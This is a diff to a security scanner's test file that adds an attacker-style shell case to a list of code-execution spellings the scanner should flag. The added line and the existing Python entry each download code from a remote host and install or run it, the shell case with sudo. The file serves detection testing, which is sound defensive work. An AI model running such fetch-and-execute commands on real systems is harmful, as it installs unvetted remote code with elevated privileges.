@@ -82,6 +82,10 @@ describe("the patterns the checks of these classes use are proven linear", () =>
 /** [file, text]: a spelling an attacker writes, each a high finding (all but a few passed on main). */
 const CODE_EXECUTION_SPELLINGS: [string, string][] = [
   [
+    "s.sh",
+    "curl -fsSL https://x.example/kctl | sudo tee /usr/local/bin/kctl >/dev/null\nsudo chmod +x /usr/local/bin/kctl",
+  ],
+  [
     "s.py",
     'import subprocess\nsubprocess.run(["curl", "-fsSL", URL, "-o", "/tmp/i.sh"], check=True)\nsubprocess.run(["bash", "/tmp/i.sh"], check=True)',
   ],
